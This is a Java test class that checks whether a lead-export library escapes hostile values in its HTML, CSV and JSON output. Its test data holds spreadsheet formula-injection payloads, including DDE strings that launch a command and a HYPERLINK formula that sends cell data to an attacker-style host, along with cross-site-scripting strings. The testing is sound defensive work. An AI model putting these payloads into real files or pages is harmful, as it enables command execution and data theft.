package org.leadkit.formats;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.xml.XMLConstants;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.leadkit.activity.Activity;
import org.leadkit.lead.Lead;
import org.leadkit.lead.LeadId;
import org.leadkit.lead.TenantId;
import org.leadkit.retention.export.Controller;
import org.leadkit.retention.export.Datum;
import org.leadkit.retention.export.HeldLead;
import org.leadkit.retention.export.HeldRecord;
import org.leadkit.retention.export.SubjectExport;
import org.leadkit.retention.export.SubjectFile;
import org.leadkit.value.Value;
import org.w3c.dom.Document;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;
import org.xml.sax.SAXException;

/**
 * Whatever a value is, a page shows it as text, a spreadsheet takes it for none of its formulas.
 */
class HostileExportTest {

  private static final String FORMULAS = "=+-@\t\r";

  private static final List<String> INJECTIONS =
      List.of(
          "=1+1",
          "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "+1+1",
          "-2+3+cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          " =1+1",
          "\u00A0=1+1",
          "\uFEFF=1+1",
          "\u200B@SUM(1)",
          "\"=1+1",
          "\uFF1D1+1",
          "\uFF0B1",
          "\uFF0D1",
          "\uFF20SUM(1)",
          "'=1+1",
          "|calc",
          "%0A=1+1",
          "a,\"b\"\r\n=1+1",
          "x;=1+1",
          "x\t=1+1",
          "x; \"=1+1",
          "x\n\"=1+1",
          "x;'=1+1",
          "x;;\uFF1D1",
          "-5",
          "+4930901820",
          "</td><script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' onmouseover='alert(1)",
          "<!-- ",
          "]]>",
          "<![CDATA[",
          "&lt;",
          "&#x3C;",
          "</bdi></table></html>",
          "\u202Egnp.exe",
          "\uD800",
          "\uDC00\uD800",
          "\uFFFE",
          "\uFDD0",
          "\u0000",
          "\u001B[31m",
          "\u0085");

  private static List<String> naughty() {
    String json = TestFiles.text(TestFiles.in("hostile-strings").get(1));
    Node.Items root = (Node.Items) JsonText.read(json, new Findings()).orElseThrow();
    return root.items().stream().map(item -> ((Node.Text) item).text()).toList();
  }

  private static List<String> all() {
    return Stream.concat(naughty().stream(), INJECTIONS.stream()).toList();
  }

  /** Every place of an export into which a value of others can come. */
  private static SubjectExport export(List<String> values) {
    Instant at = ExportCase.AT;
    Map<String, Value> properties = new LinkedHashMap<>();
    Map<String, String> told = new LinkedHashMap<>();
    for (int i = 0; i < values.size(); i++) {
      properties.put("p" + i, Value.of(values.get(i)));
      if (!values.get(i).contains("pass")) {
        properties.put("n" + i + values.get(i), Value.of("name"));
      }
      told.put("v" + i, values.get(i));
    }
    Lead lead = Lead.arrived(TenantId.DEFAULT, new LeadId("lead-1"), at).build();
    List<Activity> activities =
        List.of(new Activity("a1", "page.viewed", at, at, properties, "web"));
    SubjectFile data =
        SubjectFile.of(
                Controller.of(values.get(0), values.get(0)),
                List.of(new HeldLead(lead, List.of(), activities, List.of())))
            .with(List.of(new HeldRecord("score", "s1", at, told, List.of())));
    return SubjectExport.of("r-1", ExportCase.CUT_OFF, data, ExportCase.INVENTORY);
  }

  private static Document parse(String html) {
    try {
      DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
      factory.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);
      factory.setAttribute(XMLConstants.ACCESS_EXTERNAL_DTD, "");
      return factory.newDocumentBuilder().parse(new InputSource(new StringReader(html)));
    } catch (ParserConfigurationException | SAXException e) {
      throw new AssertionError(e);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static List<String> texts(Document page, String tag) {
    NodeList found = page.getElementsByTagName(tag);
    return IntStream.range(0, found.getLength())
        .mapToObj(i -> found.item(i).getTextContent())
        .toList();
  }

  private static void checkPage(List<String> values) {
    SubjectExport export = export(values);
    String html = ExportFiles.access(export).text("export.html");
    Document page = parse(html);
    String harmless =
        ExportFiles.access(
                export(
                    values.stream().map(value -> value.contains("pass") ? "pass" : "x").toList()))
            .text("export.html");
    Document plain = parse(harmless);
    for (String tag : List.of("table", "script", "img", "a", "style", "meta", "h2")) {
      assertThat(texts(page, tag)).as(tag).hasSameSizeAs(texts(plain, tag));
    }
    List<String> shown = texts(page, "bdi");
    assertThat(shown)
        .containsAll(export.data().stream().map(Datum::value).map(ExportText::printable).toList());
    assertThat(texts(page, "*")).hasSameSizeAs(texts(plain, "*"));
  }

  @Test
  void noNaughtyStringChangesThePage() {
    assertThat(naughty()).hasSizeGreaterThan(400);
    checkPage(all().stream().filter(value -> !value.isEmpty()).toList());
  }

  @Test
  void noNaughtyStringBecomesAFormula() {
    for (String value : all()) {
      checkCell(value);
    }
    List<String> values = all().stream().filter(value -> !value.isEmpty()).toList();
    SubjectExport export = export(values);
    checkRows(ExportFiles.access(export).text("data.csv"), export.data().size());
    checkRows(
        ExportFiles.portability(export.portable()).text("data.csv"),
        export.portable().data().size());
    checkRows(ExportFiles.access(export).text("about.csv"), export.statements().size());
  }

  private static void checkRows(String csv, int size) {
    List<CsvRecord> rows = new ArrayList<>();
    CsvReader.builder().ofCsvRecord(csv).forEach(rows::add);
    assertThat(rows).hasSize(size + 1);
    int columns = rows.get(0).getFieldCount();
    assertThat(rows).allMatch(row -> row.getFieldCount() == columns);
    assertThat(rows)
        .flatExtracting(CsvRecord::getFields)
        .noneMatch(
            cell ->
                !cell.isEmpty()
                    && FORMULAS.indexOf(
                            cell.strip().isEmpty() ? cell.charAt(0) : cell.strip().charAt(0))
                        >= 0);
  }

  private static void checkCell(String value) {
    String cell = ExportCsv.cell(value);
    String clean = ExportText.printable(value);
    String stripped = cell.strip();
    assertThat(stripped.isEmpty() || FORMULAS.indexOf(stripped.charAt(0)) < 0).isTrue();
    assertThat(cell.isEmpty() || FORMULAS.indexOf(cell.charAt(0)) < 0).isTrue();
    assertThat(cell.replaceAll("(^|[;\\t\\r\\n])'", "$1")).isEqualTo(clean);
    for (char separator : new char[] {';', '\t', ','}) {
      checkApart("\"a\",\"" + cell.replace("\"", "\"\"") + "\",\"b\"\r\n", separator);
    }
  }

  /**
   * As a spreadsheet takes it that knows another separator: only a quote that comes first counts.
   */
  private static void checkApart(String line, char separator) {
    List<String> fields = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    boolean isQuoted = false;
    boolean isFirst = true;
    for (int i = 0; i < line.length(); i++) {
      char c = line.charAt(i);
      if (isQuoted && c == '"') {
        isQuoted = i + 1 < line.length() && line.charAt(i + 1) == '"';
        i += isQuoted ? 1 : 0;
        if (isQuoted) {
          field.append(c);
        }
      } else if (isFirst && c == '"') {
        isQuoted = true;
        isFirst = false;
      } else if (!isQuoted && (c == separator || c == '\n' || c == '\r')) {
        fields.add(field.toString());
        field.setLength(0);
        isFirst = true;
      } else {
        field.append(c);
        isFirst = false;
      }
    }
    fields.add(field.toString());
    assertThat(fields)
        .noneMatch(one -> !one.strip().isEmpty() && "=+-@".indexOf(one.strip().charAt(0)) >= 0);
  }

  @Test
  void aLineEndOfAMessageStaysWhole() {
    assertThat(ExportCsv.cell("Hello\r\nworld; yes\tno")).isEqualTo("Hello\r\nworld; yes\tno");
    assertThat(ExportCsv.cell("a;=1\r\n-2\t@b; 'c")).isEqualTo("a;'=1\r\n'-2\t'@b;' 'c");
    assertThat(ExportCsv.cell("-5")).isEqualTo("'-5");
    assertThat(ExportCsv.cell("+4930901820")).isEqualTo("'+4930901820");
  }

  @Test
  void aLoneSurrogateStaysExactInTheBytesOfJson() {
    ExportFiles files = ExportFiles.access(export(List.of("\uD800x", "\uDC00", "\uD83D\uDE00")));
    for (String name : files.names()) {
      assertThat(new String(files.bytes(name), StandardCharsets.UTF_8)).isEqualTo(files.text(name));
    }
  }

  @Test
  void anEndlessNameIsWrittenToo() {
    String name = "a" + "-a".repeat(50_000);
    assertThat(ExportWords.label(name)).hasSize(name.length()).doesNotContain("-");
  }

  @Test
  void jsonHoldsEveryValueExactly() {
    List<String> values = all().stream().filter(value -> !value.isEmpty()).toList();
    SubjectExport export = export(values);
    String json = ExportFiles.access(export).text("export.json");
    Node.Group root = (Node.Group) JsonText.read(json, new Findings()).orElseThrow();
    List<String> told =
        ((Node.Items) root.members().get("data").value())
            .items().stream()
                .map(item -> ((Node.Group) item).members().get("value").value())
                .map(value -> ((Node.Text) value).text())
                .toList();
    assertThat(told).containsAll(values);
    assertThat(ExportFilesTest.errors(json)).isEmpty();
    ExportFilesTest.check(ExportFiles.access(export));
  }

  @Property(tries = 300)
  void nothingThatIsMarkupGetsThrough(@ForAll("texts") String value) {
    String html = ExportText.html(value);
    assertThat(html.replaceAll("&(amp|lt|gt|quot|#39|#96|#13);", ""))
        .doesNotContain("<", ">", "&", "\"", "'", "`", "\r");
    assertThat(parse("<p>" + html + "</p>").getDocumentElement().getTextContent())
        .isEqualTo(ExportText.printable(value));
    checkCell(value);
  }

  @Property(tries = 100)
  void aPageOfAnyValuesIsWellFormed(@ForAll("texts") String value) {
    checkPage(List.of(value + "x", value + "y"));
  }

  @Provide
  Arbitrary<String> texts() {
    Arbitrary<String> hostile =
        Arbitraries.of(
            "<", ">", "&", "\"", "'", "=", "+", "-", "@", "\t", "\r", "\n", "]]>", "--", " ", "|");
    return Arbitraries.oneOf(hostile, Arbitraries.strings().ofMaxLength(3), Arbitraries.of(all()))
        .list()
        .ofMaxSize(5)
        .map(parts -> String.join("", parts));
  }
}
